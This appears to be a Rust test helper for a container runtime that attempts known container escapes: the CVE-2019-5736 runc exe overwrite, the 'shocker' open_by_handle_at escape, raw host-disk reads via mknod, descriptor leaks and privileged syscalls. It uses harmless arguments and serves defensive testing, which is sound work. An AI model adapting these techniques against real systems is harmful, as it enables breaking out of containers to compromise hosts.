//! Subcommands that try to escape the container, for the attack tests.
//! Each prints one line per attempt, `NAME=RESULT` or `NAME!errno=N`, and
//! never exits non-zero because an attempt failed: the test reads the lines.
//!
//! Every attempt uses arguments that do no harm if the defence is missing:
//! an invalid reboot magic, a module name that does not exist, an append
//! instead of a truncation, reads instead of writes.

use std::ffi::CString;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::Path;
use std::time::{Duration, Instant};

use super::errno;

/// Text appended by `write-exe`, so a write that got through changes the
/// binary's hash but not its code.
const EXE_MARKER: &[u8] = b"\ncorral-probe was able to write this binary\n";

/// Prints the result of a raw system call: the value, or errno when -1.
fn report(name: &str, result: Result<libc::c_long, i32>) {
    match result {
        Ok(value) => println!("{name}={value}"),
        Err(code) => println!("{name}!errno={code}"),
    }
}

/// Converts the return value of a raw system call to the value or errno,
/// so it must run right after the call.
fn checked(result: libc::c_long) -> Result<libc::c_long, i32> {
    if result < 0 {
        Err(errno())
    } else {
        Ok(result)
    }
}

fn c_path(path: &str) -> CString {
    CString::new(path).unwrap_or_else(|_| super::usage(&format!("path {path:?} contains NUL")))
}

/// Opens `path` with `flags` and returns the descriptor, or errno.
fn open(path: &str, flags: libc::c_int) -> Result<OwnedFd, i32> {
    let path = c_path(path);
    // SAFETY: `path` is NUL-terminated and lives across the call; the mode
    // is ignored because the flags never contain O_CREAT.
    let fd = unsafe { libc::open(path.as_ptr(), flags | libc::O_CLOEXEC) };
    if fd < 0 {
        Err(errno())
    } else {
        // SAFETY: open just returned this descriptor and nothing else owns it.
        Ok(unsafe { OwnedFd::from_raw_fd(fd) })
    }
}

/// Appends [`EXE_MARKER`] to an open descriptor.
fn append_marker(fd: &OwnedFd) -> Result<(), i32> {
    // SAFETY: the buffer and its length describe the live EXE_MARKER.
    let written =
        unsafe { libc::write(fd.as_raw_fd(), EXE_MARKER.as_ptr().cast(), EXE_MARKER.len()) };
    if written < 0 {
        Err(errno())
    } else {
        Ok(())
    }
}

fn print_outcome(name: &str, outcome: Result<(), i32>) {
    match outcome {
        Ok(()) => println!("{name}=ok"),
        Err(code) => println!("{name}!errno={code}"),
    }
}

/// `write-exe PID`: tries to write the binary of process PID through
/// /proc/PID/exe, first by opening the link for writing and then, as
/// CVE-2019-5736 did against runc, by holding an O_PATH descriptor and
/// reopening it for writing through /proc/self/fd.
pub fn write_exe(pid: &str) {
    let link = format!("/proc/{pid}/exe");
    match is_read_only_mount(&link) {
        Ok(readonly) => println!("exe_readonly={readonly}"),
        Err(code) => println!("exe_readonly!errno={code}"),
    }
    let direct = open(&link, libc::O_WRONLY | libc::O_APPEND).and_then(|fd| append_marker(&fd));
    print_outcome("direct", direct);

    let exe = match open(&link, libc::O_PATH) {
        Ok(fd) => fd,
        Err(code) => {
            println!("path!errno={code}");
            return;
        }
    };
    println!("path=ok");
    let reopened = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let reopen = open(&reopened, libc::O_WRONLY | libc::O_APPEND).and_then(|fd| append_marker(&fd));
    print_outcome("reopen", reopen);
}

/// `fds`: prints `fd=N target=T` for every open descriptor of the probe
/// (found with F_GETFD, so listing them opens none), and for each above
/// stderr whether `..` of it opens, as a leaked directory would allow.
pub fn own_descriptors() {
    // SAFETY: sysconf takes an integer name only.
    let limit = unsafe { libc::sysconf(libc::_SC_OPEN_MAX) }.clamp(3, 65536) as libc::c_int;
    for fd in 0..limit {
        // SAFETY: F_GETFD on any number only reads the descriptor's flags.
        if unsafe { libc::fcntl(fd, libc::F_GETFD) } < 0 {
            continue;
        }
        let target = std::fs::read_link(format!("/proc/self/fd/{fd}"))
            .map(|t| t.display().to_string())
            .unwrap_or_else(|error| format!("errno={}", error.raw_os_error().unwrap_or(0)));
        println!("fd={fd} target={target}");
        if fd <= 2 {
            continue;
        }
        let dotdot = c_path("..");
        // SAFETY: `dotdot` is NUL-terminated; the result is checked and
        // closed below.
        let parent = unsafe {
            libc::openat(
                fd,
                dotdot.as_ptr(),
                libc::O_PATH | libc::O_DIRECTORY | libc::O_CLOEXEC,
            )
        };
        if parent < 0 {
            println!("fd={fd} parent!errno={}", errno());
        } else {
            let target = std::fs::read_link(format!("/proc/self/fd/{parent}"))
                .map(|t| t.display().to_string())
                .unwrap_or_default();
            println!("fd={fd} parent={target}");
            // SAFETY: openat just returned `parent` and nothing else uses it.
            unsafe { libc::close(parent) };
        }
    }
}

/// `fds-of PID`: lists /proc/PID/fd and tries to open each descriptor of
/// that process for reading, as another process of the container could.
pub fn descriptors_of(pid: &str) {
    let dir = format!("/proc/{pid}/fd");
    let entries = match std::fs::read_dir(&dir) {
        Ok(entries) => entries,
        Err(error) => {
            println!("list!errno={}", error.raw_os_error().unwrap_or(0));
            return;
        }
    };
    let mut fds: Vec<u32> = entries
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .collect();
    fds.sort_unstable();
    for fd in fds {
        let path = format!("{dir}/{fd}");
        let target = std::fs::read_link(&path)
            .map(|t| t.display().to_string())
            .unwrap_or_else(|error| format!("errno={}", error.raw_os_error().unwrap_or(0)));
        // O_NONBLOCK keeps a FIFO from blocking the open.
        match open(&path, libc::O_RDONLY | libc::O_NONBLOCK | libc::O_NOCTTY) {
            Ok(_) => println!("fd={fd} target={target} open=ok"),
            Err(code) => println!("fd={fd} target={target} open!errno={code}"),
        }
    }
}

/// `raw-device MAJOR MINOR`: creates a block device node for MAJOR:MINOR in
/// /dev and reads its first sector, as a job would to read the host's disk.
pub fn raw_device(major: u64, minor: u64) {
    let path = "/dev/corral-probe-disk";
    let c_path = c_path(path);
    // SAFETY: `c_path` is NUL-terminated; mknod takes integers otherwise.
    let created = unsafe {
        libc::mknod(
            c_path.as_ptr(),
            libc::S_IFBLK | 0o600,
            libc::makedev(major as u32, minor as u32),
        )
    };
    if created < 0 {
        println!("mknod!errno={}", errno());
        return;
    }
    println!("mknod=ok");
    let device = match open(path, libc::O_RDONLY) {
        Ok(fd) => fd,
        Err(code) => {
            println!("open!errno={code}");
            return;
        }
    };
    println!("open=ok");
    let mut sector = [0u8; 512];
    // SAFETY: the buffer is 512 writable bytes that outlive the call.
    let read = unsafe { libc::read(device.as_raw_fd(), sector.as_mut_ptr().cast(), sector.len()) };
    report("read", checked(read as libc::c_long));
}

/// `masked PATHS`: prints how much of each path a job can read: the number
/// of entries of a directory, or up to 4096 bytes of anything else.
pub fn masked(paths: &[String]) {
    use std::io::Read;

    for path in paths {
        let metadata = match std::fs::metadata(path) {
            Ok(metadata) => metadata,
            Err(error) => {
                println!("{path}!errno={}", error.raw_os_error().unwrap_or(0));
                continue;
            }
        };
        if metadata.is_dir() {
            match std::fs::read_dir(path) {
                Ok(entries) => println!("{path}=dir entries={}", entries.count()),
                Err(error) => println!("{path}!errno={}", error.raw_os_error().unwrap_or(0)),
            }
            continue;
        }
        let mut buffer = Vec::new();
        let read =
            std::fs::File::open(path).and_then(|file| file.take(4096).read_to_end(&mut buffer));
        match read {
            Ok(bytes) => println!("{path}=file bytes={bytes}"),
            Err(error) => println!("{path}!errno={}", error.raw_os_error().unwrap_or(0)),
        }
    }
}

/// `open-write PATHS`: opens each path for writing and closes it again
/// without writing, which is enough to tell a read-only mount (EROFS).
pub fn open_write(paths: &[String]) {
    for path in paths {
        match open(path, libc::O_WRONLY | libc::O_NOCTTY) {
            Ok(_) => println!("{path}=ok"),
            Err(code) => println!("{path}!errno={code}"),
        }
    }
}

/// `privileged-call NAME`: makes one system call that the default seccomp
/// profile or capability set must refuse, with arguments that would do
/// nothing harmful if it were allowed.
pub fn privileged_call(name: &str) {
    if name == "open_by_handle_at" {
        report(name, open_root_inode_by_handle());
        return;
    }
    // SAFETY: every pointer argument points to a live, NUL-terminated
    // string or a zeroed buffer of the size passed, owned by this frame for
    // the duration of the call.
    let result: libc::c_long = unsafe {
        match name {
            // Mounting needs CAP_SYS_ADMIN; a tmpfs on /tmp would only
            // affect the container's own mount namespace.
            "mount" => {
                let source = c_path("corral-probe");
                let target = c_path("/tmp");
                let fstype = c_path("tmpfs");
                libc::syscall(
                    libc::SYS_mount,
                    source.as_ptr(),
                    target.as_ptr(),
                    fstype.as_ptr(),
                    0 as libc::c_ulong,
                    std::ptr::null::<libc::c_void>(),
                )
            }
            // ENOENT when allowed: the path does not exist.
            "umount2" => {
                let target = c_path("/corral-probe-missing");
                libc::syscall(libc::SYS_umount2, target.as_ptr(), 0)
            }
            // EFAULT or EINVAL when allowed: no module image.
            "init_module" => {
                let params = c_path("");
                libc::syscall(
                    libc::SYS_init_module,
                    std::ptr::null::<libc::c_void>(),
                    0 as libc::c_ulong,
                    params.as_ptr(),
                )
            }
            // EBADF when allowed.
            "finit_module" => {
                let params = c_path("");
                libc::syscall(libc::SYS_finit_module, -1, params.as_ptr(), 0)
            }
            // ENOENT when allowed: no such module.
            "delete_module" => {
                let module = c_path("corral_probe_missing");
                libc::syscall(libc::SYS_delete_module, module.as_ptr(), libc::O_NONBLOCK)
            }
            // EINVAL when allowed: the magic numbers are wrong, so the
            // kernel never reaches the command.
            "reboot" => libc::syscall(
                libc::SYS_reboot,
                0x1234_5678 as libc::c_long,
                0x8765_4321u32 as libc::c_long,
                libc::LINUX_REBOOT_CMD_CAD_OFF as libc::c_long,
                std::ptr::null::<libc::c_void>(),
            ),
            // Returns the session keyring's serial when allowed.
            "keyctl" => {
                const KEYCTL_GET_KEYRING_ID: libc::c_long = 0;
                const KEY_SPEC_SESSION_KEYRING: libc::c_long = -3;
                libc::syscall(
                    libc::SYS_keyctl,
                    KEYCTL_GET_KEYRING_ID,
                    KEY_SPEC_SESSION_KEYRING,
                    0,
                )
            }
            // Adds a key to the probe's own process keyring when allowed.
            "add_key" => {
                const KEY_SPEC_PROCESS_KEYRING: libc::c_long = -2;
                let kind = c_path("user");
                let description = c_path("corral-probe");
                let payload = b"x";
                libc::syscall(
                    libc::SYS_add_key,
                    kind.as_ptr(),
                    description.as_ptr(),
                    payload.as_ptr(),
                    payload.len(),
                    KEY_SPEC_PROCESS_KEYRING,
                )
            }
            // EINVAL when allowed: map type 0 does not exist.
            "bpf" => {
                const BPF_MAP_CREATE: libc::c_long = 0;
                let attributes = [0u8; 128];
                libc::syscall(
                    libc::SYS_bpf,
                    BPF_MAP_CREATE,
                    attributes.as_ptr(),
                    attributes.len(),
                )
            }
            // EINVAL or ENOENT when allowed: an all-zero event attribute.
            "perf_event_open" => {
                let attributes = [0u8; 128];
                libc::syscall(libc::SYS_perf_event_open, attributes.as_ptr(), 0, -1, -1, 0)
            }
            // The profile blocks new namespaces without CAP_SYS_ADMIN.
            "unshare" => libc::syscall(libc::SYS_unshare, libc::CLONE_NEWUSER),
            // ENOENT when allowed: the swap file does not exist.
            "swapon" => {
                let path = c_path("/corral-probe-missing");
                libc::syscall(libc::SYS_swapon, path.as_ptr(), 0)
            }
            // With neither a time nor a zone, an allowed call changes nothing.
            "settimeofday" => libc::syscall(
                libc::SYS_settimeofday,
                std::ptr::null::<libc::c_void>(),
                std::ptr::null::<libc::c_void>(),
            ),
            other => super::usage(&format!("unknown privileged call {other:?}")),
        }
    };
    report(name, checked(result));
}

/// Opens inode 2 (the root directory of ext2, ext3 and ext4) of the
/// filesystem under `/` by a forged file handle, the "shocker" escape of
/// early Docker. Read-only: the most it could do is list a directory.
fn open_root_inode_by_handle() -> Result<libc::c_long, i32> {
    // struct file_handle: handle_bytes, handle_type, then the handle; type
    // 1 (FILEID_INO32_GEN) contains a 32-bit inode and a generation.
    #[repr(C)]
    struct FileHandle {
        handle_bytes: u32,
        handle_type: i32,
        inode: u32,
        generation: u32,
    }
    let handle = FileHandle {
        handle_bytes: 8,
        handle_type: 1,
        inode: 2,
        generation: 0,
    };
    let mount_fd = open("/", libc::O_RDONLY | libc::O_DIRECTORY)?;
    // SAFETY: `handle` is a complete file_handle whose handle_bytes match
    // the bytes that follow its header, and `mount_fd` is open.
    let opened = checked(unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            mount_fd.as_raw_fd(),
            &handle as *const FileHandle,
            libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC,
        )
    })?;
    // SAFETY: the call just returned this descriptor and nothing else owns it.
    drop(unsafe { OwnedFd::from_raw_fd(opened as libc::c_int) });
    Ok(opened)
}

/// Returns whether `path` lies on a read-only mount.
fn is_read_only_mount(path: &str) -> Result<bool, i32> {
    let path = c_path(path);
    // SAFETY: an all-zero statvfs is a valid output buffer.
    let mut stat: libc::statvfs = unsafe { std::mem::zeroed() };
    // SAFETY: `path` is NUL-terminated and `stat` is writable for the call.
    if unsafe { libc::statvfs(path.as_ptr(), &mut stat) } < 0 {
        return Err(errno());
    }
    Ok(stat.f_flag & libc::ST_RDONLY != 0)
}

/// `hijack-exe DIR SECONDS`: the attack of CVE-2019-5736 on runc, run as
/// PID 1 of a container. It makes DIR/victim/state.json a FIFO, so that
/// `corral --root DIR state victim`, started in the container by
/// `corral exec`, blocks there. It then holds an O_PATH descriptor of that
/// process's /proc/PID/exe, kills and reaps it so that no process executes
/// the binary, and reopens the descriptor for writing. The lines go to
/// stdout and to DIR/result, which appears only when the attempt is over.
pub fn hijack_exe(dir: &str, seconds: u64) {
    let lines = hijack_lines(Path::new(dir), Duration::from_secs(seconds));
    let text: String = lines.iter().map(|line| format!("{line}\n")).collect();
    print!("{text}");
    let partial = Path::new(dir).join("result.partial");
    let written = std::fs::write(&partial, &text)
        .and_then(|()| std::fs::rename(&partial, Path::new(dir).join("result")));
    if let Err(error) = written {
        eprintln!("corral-probe: failed to write {dir}/result: {error}");
        std::process::exit(1);
    }
}

fn hijack_lines(dir: &Path, timeout: Duration) -> Vec<String> {
    use std::os::unix::fs::MetadataExt;

    let deadline = Instant::now() + timeout;
    let victim = dir.join("victim");
    if let Err(error) = std::fs::create_dir_all(&victim) {
        return vec![format!("mkdir!errno={}", error.raw_os_error().unwrap_or(0))];
    }
    let fifo = c_path(&victim.join("state.json").display().to_string());
    // SAFETY: `fifo` is NUL-terminated and lives across the call.
    if unsafe { libc::mkfifo(fifo.as_ptr(), 0o600) } < 0 {
        return vec![format!("mkfifo!errno={}", errno())];
    }
    let own = match std::fs::metadata("/proc/self/exe") {
        Ok(metadata) => (metadata.dev(), metadata.ino()),
        Err(error) => return vec![format!("self!errno={}", error.raw_os_error().unwrap_or(0))],
    };

    let Some((pid, exe)) = wait_for_other_binary(own, deadline) else {
        return vec!["found!errno=110".to_string()];
    };
    let mut lines = vec![format!("found={pid}")];
    let target = std::fs::read_link(format!("/proc/self/fd/{}", exe.as_raw_fd()))
        .map(|t| t.display().to_string())
        .unwrap_or_default();
    lines.push(format!("target={target}"));
    lines.push(
        match is_read_only_mount(&format!("/proc/self/fd/{}", exe.as_raw_fd())) {
            Ok(readonly) => format!("exe_readonly={readonly}"),
            Err(code) => format!("exe_readonly!errno={code}"),
        },
    );

    // SAFETY: kill takes integers only; `pid` is a process of this
    // container's PID namespace, which this process is the init of.
    unsafe { libc::kill(pid, libc::SIGKILL) };
    let reaped = loop {
        // SAFETY: waitpid with a null status pointer and WNOHANG only reaps
        // `pid` when it is a child of this process.
        unsafe { libc::waitpid(pid, std::ptr::null_mut(), libc::WNOHANG) };
        if !Path::new(&format!("/proc/{pid}")).exists() {
            break true;
        }
        if Instant::now() >= deadline {
            break false;
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    lines.push(format!("gone={reaped}"));

    let reopened = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let reopen = open(&reopened, libc::O_WRONLY | libc::O_APPEND).and_then(|fd| append_marker(&fd));
    lines.push(match reopen {
        Ok(()) => "reopen=ok".to_string(),
        Err(code) => format!("reopen!errno={code}"),
    });
    lines
}

/// Polls /proc until a process runs a binary other than `own` (device and
/// inode), and returns it with an O_PATH descriptor of its /proc/PID/exe.
fn wait_for_other_binary(own: (u64, u64), deadline: Instant) -> Option<(i32, OwnedFd)> {
    use std::os::unix::fs::MetadataExt;

    let me = std::process::id() as i32;
    while Instant::now() < deadline {
        let pids: Vec<i32> = std::fs::read_dir("/proc")
            .map(|entries| {
                entries
                    .flatten()
                    .filter_map(|e| e.file_name().to_str()?.parse().ok())
                    .collect()
            })
            .unwrap_or_default();
        for pid in pids.into_iter().filter(|pid| *pid != me) {
            let Ok(exe) = open(&format!("/proc/{pid}/exe"), libc::O_PATH) else {
                continue;
            };
            let Ok(metadata) = std::fs::metadata(format!("/proc/self/fd/{}", exe.as_raw_fd()))
            else {
                continue;
            };
            if (metadata.dev(), metadata.ino()) != own {
                return Some((pid, exe));
            }
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    None
}
